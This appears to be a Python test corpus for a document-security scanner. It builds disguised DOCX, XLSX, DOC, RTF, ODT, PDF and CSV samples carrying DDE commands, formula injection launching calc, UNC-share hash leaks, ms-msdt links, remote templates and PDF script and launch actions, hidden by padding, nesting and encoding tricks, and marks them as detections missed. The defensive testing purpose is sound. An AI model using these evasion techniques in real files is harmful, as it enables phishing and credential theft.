"""The hazards of before, written otherwise: as no ordinary program writes them."""

import base64
import struct
import zlib
from functools import partial

from scanning.verdicts import Verdict
from tests.scanning.corpus.case import Case, cases
from tests.scanning.corpus.compounds import compound, doc
from tests.scanning.corpus.office import odf, ooxml, relations, zipped
from tests.scanning.corpus.pdfs import pdf, stream

MISSED = True
SHARE = "\\\\10.0.0.1\\a"
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
OBJECTS = b"20 0 " + SCRIPT
PACKED = zlib.compress(OBJECTS)
DDE = ' DDEAUTO cmd "/c calc" '
HEAD = '<?xml version="1.0"?>'
GO_THERE = b"<</S/GoToR/D[0/Fit]/F%s>>"
OPEN = b"/OpenAction 4 0 R"
RTF = b"{\\rtf1\\ansi %s}"


def fields(*texts: str) -> str:
    """Return the runs of fields, each between its marks."""
    mark = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    return "".join(
        f"{mark % 'begin'}<w:r><w:instrText>{text}</w:instrText></w:r>{mark % 'end'}"
        for text in texts
    )


def sheet(formula: str) -> bytes:
    """Return a workbook with one formula."""
    cell = f'<c r="A1"><f>{formula}</f><v>0</v></c>'
    content = f"{HEAD}<worksheet><sheetData><row>{cell}</row></sheetData></worksheet>"
    return ooxml("xlsx", {"xl/worksheets/sheet1.xml": content})


def connected(inner: str) -> bytes:
    """Return a workbook with one connection to data elsewhere."""
    content = f"{HEAD}<connections>{inner}</connections>"
    return ooxml("xlsx", {"xl/connections.xml": content})


def renamed(content: str) -> bytes:
    """Return a docx whose main part has a name of no known ending."""
    part = "word/document.dat"
    types = (
        f'{HEAD}<Types><Override PartName="/{part}" ContentType="application/vnd.'
        'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    return zipped(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": relations(("officeDocument", part, False)),
            part: content,
        }
    )


def with_template(template: str) -> bytes:
    """Return a doc that names its template as Word does."""
    names = ["", template, "", ""]
    table = struct.pack("<3H", 0xFFFF, len(names), 0) + b"".join(
        struct.pack("<H", len(name)) + name.encode("utf-16-le") for name in names
    )
    header = bytearray(struct.pack("<H8xH", 0xA5EC, 0x0200) + bytes(700))
    struct.pack_into("<2I", header, 0x19A, 0, len(table))
    return compound({"WordDocument": bytes(header), "1Table": table})


def wide(text: str) -> bytes:
    """Return a doc with this text in letters of two bytes."""
    return doc(text=text.encode("utf-16-le"))


def unnamed(content: bytes, more: bytes) -> bytes:
    """Return a PDF with a stream of objects that does not name its type."""
    return pdf(stream(content, b"/N 1/First 5" + more))


def letters(content: bytes) -> bytes:
    return base64.a85encode(content) + b"~>"


def rows(content: bytes) -> bytes:
    """Return the bytes as one row in which each is the difference to the last."""
    steps = zip(content, b"\0" + content, strict=False)
    row = bytes((each - before) % 256 for each, before in steps)
    return zlib.compress(b"\1" + row)


DISGUISED: list[Case] = [
    *cases(
        Verdict.ACTIVE_CONTENT,
        ("many-fields.docx", "a DDE command behind 3,000 fields", "dde", MISSED,
         lambda: ooxml("docx", body=fields(*[" PAGEREF _Toc12345678 "] * 3000, DDE))),
        ("next-field.docx", "a DDE command right behind another field", "dde", MISSED,
         lambda: ooxml("docx", body=fields("PAGE", "DDE cmd a"))),
        ("blanks.docx", "a part that begins with 5,000 blanks", "dde", MISSED,
         lambda: renamed(" " * 5000 + f"<w:document>{fields(DDE)}</w:document>")),
        ("far-address.docx", "its address far behind the word that fetches",
         "remote_content", MISSED,
         lambda: ooxml("docx", body=fields(f'LINK a{" " * 400}\n"http://a.example"'))),
        ("shown-share.docx", "a picture in a field that sends the password's hash",
         "remote_content", MISSED,
         lambda: ooxml("docx", body=fields(f'INCLUDEPICTURE "{SHARE}"'))),
        ("drawn-share.docx", "the same in an old drawing", "remote_content", MISSED,
         partial(ooxml, "docx", body=f'<v:imagedata src="{SHARE}"/>')),
        ("field-program.docx", "a field that starts a program", "office_launch", MISSED,
         lambda: ooxml("docx", body=fields(' HYPERLINK "ms-msdt:/id a" '))),
        ("merge.docx", "letters that fetch their addresses", "remote_content", MISSED,
         partial(ooxml, "docx", {"word/settings.xml": HEAD + "<w:settings>"
                 f'<w:connectString w:val="Data Source={SHARE}"/></w:settings>'})),
        ("pane.docx", "a program of the web beside the text", "remote_content", MISSED,
         partial(ooxml, "docx",
                 {"word/webextensions/a.xml": HEAD + '<we:webextension id="a"/>'})),
        ("database.xlsx", "asks a database when it opens", "remote_content", MISSED,
         lambda: connected('<connection refreshOnLoad="1"/>')),
        ("page.xlsx", "asks a page of the web", "remote_content", MISSED,
         lambda: connected('<connection><webPr url="http://a.example"/></connection>')),
        ("table-share.xlsx", "reads from another machine", "remote_content", MISSED,
         lambda: connected(f'<textPr sourceFile="{SHARE}.csv"/>')),
        ("fetch.xlsx", "a formula that fetches", "formula", MISSED,
         partial(sheet, '_xlfn.WEBSERVICE("http://a.example?"&amp;A2)')),
        ("fetch-spelled.xlsx", "its name spelled by codes", "formula", MISSED,
         partial(sheet, '&#87;EB<!-- a -->SERVICE("http://a.example?"&amp;A2)')),
        ("command.xlsx", "a formula that starts a program", "formula", MISSED,
         partial(sheet, "cmd|'/C calc'!A0")),
        ("picture-share.odt", "CVE-2018-10583: a picture sends the password's hash",
         "remote_content", MISSED,
         partial(odf, body='<draw:image xlink:href="file://10.0.0.1/a.jpg"/>')),
        ("again.odt", "is replaced from the web after a second", "remote_content",
         MISSED, partial(odf, "text", {"meta.xml": HEAD + "<office:document-meta>"
                 '<meta:auto-reload xlink:href="https://a.example/b"/>'
                 "</office:document-meta>"})),
        ("template.doc", "a template from the web", "remote_content", MISSED,
         partial(with_template, "https://mau.example/a.dot")),
        ("template-share.doc", "a template from another machine", "remote_content",
         MISSED, partial(with_template, SHARE)),
        ("fetched-text.doc", "a field that fetches text", "remote_content", MISSED,
         partial(wide, '\x13 INCLUDETEXT "http://a.example" \x14a\x15')),
        ("program.doc", "a field that starts a program", "office_launch", MISSED,
         partial(wide, '\x13 HYPERLINK "ms-msdt:/id a" \x14a\x15')),
        ("dde-late.doc", "a DDE command behind blanks", "dde", MISSED,
         partial(wide, f"\x13{' ' * 80}DDEAUTO a b \x14a\x15")),
        ("dde-nested.doc", "a DDE command behind a field in its field", "dde", MISSED,
         partial(wide, "\x13\x13 QUOTE 68 \x14D\x15 DDE a b \x14a\x15")),
        ("control.doc", "an ActiveX control", "embedded_object", MISSED,
         lambda: doc(**{"\x03OCXNAME": b"S\0h\0e\0l\0l\0"})),
        ("dde-late.rtf", "a DDE command behind 5,000 letters of form", "dde", MISSED,
         lambda: RTF % (b"{\\field{\\*\\fldinst %sDDEAUTO a}}" % (b"{\\b }" * 1000))),
        ("dde-nested.rtf", "a DDE command behind a field in its field", "dde", MISSED,
         lambda: RTF % b"{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68}"
                       b"{\\fldrslt D}} DDE a}}"),
        ("program.rtf", "a field that starts a program", "office_launch", MISSED,
         lambda: RTF % b'{\\field{\\*\\fldinst HYPERLINK "ms-msdt:/id a"}}'),
        ("share-digits.pdf", "another machine, written in digits", "pdf_remote", MISSED,
         partial(pdf, GO_THERE % b"<5C5C31302E302E302E315C61>")),
        ("share-octal.pdf", "the same, written by codes", "pdf_remote", MISSED,
         partial(pdf, GO_THERE % b"(\\134\\13410.0.0.1\\134a)")),
        ("share-wide.pdf", "the same in UTF-16", "pdf_remote", MISSED,
         lambda: pdf(GO_THERE % (b"(\xfe\xff" + "//10.0.0.1/a".encode("utf-16-be")
                                 + b")"))),
        ("share-apart.pdf", "the same, an object of its own", "pdf_remote", MISSED,
         partial(pdf, GO_THERE % b" 5 0 R", b"(\\\\\\\\10.0.0.1\\\\a)")),
        ("opens-page.pdf", "calls a page of the web when it opens", "pdf_remote",
         MISSED, partial(pdf, b"<</S/URI/URI(https://a.example)>>", catalog=OPEN)),
        ("fetched.pdf", "a part of it from the web", "pdf_remote", MISSED,
         lambda: pdf(stream(b"", b"/F<</FS/URL/F(https://a.example)>>"))),
        ("address-digits.pdf", "script as an address in digits", "pdf_script", MISSED,
         partial(pdf, b"<</S/URI/URI<6A6176617363726970743A61>>>")),
        ("address-file.pdf", "an address that is a program", "pdf_launch", MISSED,
         partial(pdf, b"<</S/URI/URI(file:///C:/Windows/calc.exe)>>")),
        ("solid.pdf", "a body in space that brings its script", "pdf_script", MISSED,
         lambda: pdf(stream(b"U3D\0", b"/Type/3D/OnInstantiate 5 0 R"), stream(b"a"))),
        ("film.pdf", "a film of old", "pdf_media", MISSED,
         partial(pdf, b"<</Type/Annot/Subtype/Movie/Movie<</F(a.avi)>>>>")),
        ("form-far.pdf", "a form far behind its name", "pdf_form", MISSED,
         lambda: pdf(stream(b"<xdp/>"),
                     catalog=b"/AcroForm<</XFA" + b" " * 300 + b"[(a)4 0 R]>>")),
        ("form-commented.pdf", "a form behind a long comment", "pdf_form", MISSED,
         lambda: pdf(stream(b"<xdp/>"),
                     catalog=b"/AcroForm<</XFA%" + b"a" * 3000 + b"\n[(a)4 0 R]>>")),
        ("command-other-end.csv", "a command in UTF-16, the other end first", "formula",
         MISSED, lambda: b"\xfe\xff" + "=cmd|' /C calc'!A0\n".encode("utf-16-be")),
        ("command-divided.csv", "a command behind a sign of its own", "formula", MISSED,
         lambda: b"sep=^\na^=cmd|' /C calc'!A0\n"),
        ("command-lines.csv", "a command on two lines", "formula", MISSED,
         lambda: b'a,"=1+\ncmd|\' /C calc\'!A0"\n'),
    ),
    *cases(
        Verdict.UNSCANNABLE,
        ("letters.pdf", "script in a stream without type, written in letters",
         "damaged", MISSED,
         lambda: unnamed(letters(PACKED), b"/Filter[/ASCII85Decode/FlateDecode]")),
        ("rows.pdf", "the same in rows of differences", "damaged", MISSED,
         lambda: unnamed(rows(OBJECTS), b"/Filter/FlateDecode/DecodeParms"
                         b"<</Predictor 11/Columns %d>>" % len(OBJECTS))),
        ("head.pdf", "the same, packed with a false beginning", "damaged", MISSED,
         lambda: unnamed(b"\x78\0" + PACKED[2:], b"/Filter/FlateDecode")),
        ("decoy.pdf", "the same behind a note that looks like its beginning",
         "damaged", MISSED,
         lambda: pdf(stream(letters(PACKED), b"/Type/ObjStm/Note(stream\n1 0 2 0 )"
                            b"/N 1/First 5/Filter[/ASCII85Decode/FlateDecode]"))),
        ("open-field.rtf", "an instruction that does not end", "damaged", MISSED,
         lambda: b"{\\rtf1{\\field{\\*\\fldinst PAGE"),
    ),
    *cases(
        Verdict.REFUSED_TYPE,
        ("database.odf", "a database as a drawing", "type_lies", MISSED,
         partial(odf, "base")),
    ),
]  # fmt: skip
